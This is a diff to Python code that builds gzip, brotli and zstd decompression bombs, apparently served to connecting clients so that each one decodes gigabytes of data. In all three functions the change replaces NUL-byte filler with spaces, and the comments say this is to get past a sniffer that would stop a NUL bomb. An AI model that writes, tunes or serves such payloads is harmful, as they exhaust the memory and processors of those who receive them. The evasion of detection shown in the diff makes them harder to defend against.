@@ -247,7 +247,7 @@ def gzip_bomb_parts(wbits: int = 31) -> tuple[bytes, bytes]:
     first + unit * n decodes to n + 1 MiB of zeros, so a 10 GiB bomb costs the
     server nothing. The trailer never comes: the client must give up first.
     """
-    zeros = bytes(MB)
+    zeros = b" " * MB  # spaces, not NULs: the sniffer would stop a NUL bomb first
     c = zlib.compressobj(9, zlib.DEFLATED, wbits)
     first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
     unit = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
@@ -257,14 +257,14 @@ def gzip_bomb_parts(wbits: int = 31) -> tuple[bytes, bytes]:
 @cache
 def brotli_bomb(mib: int = 1024) -> bytes:
     c = brotli.Compressor(quality=1)
-    zeros = bytes(MB)
+    zeros = b" " * MB  # spaces, not NULs: the sniffer would stop a NUL bomb first
     return b"".join(c.process(zeros) for _ in range(mib)) + c.finish()
 
 
 @cache
 def zstd_bomb(mib: int = 1024) -> bytes:
     c = zstandard.ZstdCompressor(level=1).compressobj()
-    zeros = bytes(MB)
+    zeros = b" " * MB  # spaces, not NULs: the sniffer would stop a NUL bomb first
     return b"".join(c.compress(zeros) for _ in range(mib)) + c.flush()
 
 
